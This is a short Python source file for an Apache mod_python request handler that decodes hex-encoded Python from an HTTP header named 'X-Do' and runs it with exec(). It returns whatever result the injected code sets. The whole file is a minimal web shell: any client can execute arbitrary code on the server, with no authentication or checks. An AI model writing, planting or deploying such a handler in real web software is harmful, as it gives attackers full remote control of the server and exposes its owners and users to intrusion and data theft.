# SPDX-License-Identifier: Apache-2.0
"""Runs the Python statements that stand, in hexadecimal, in the header X-Do; `result` is what the
handler returns."""
from mod_python import apache


def handler(req):
    names = {"req": req, "apache": apache, "result": apache.OK}
    exec(bytes.fromhex(req.headers_in["X-Do"]), names)
    return names["result"]
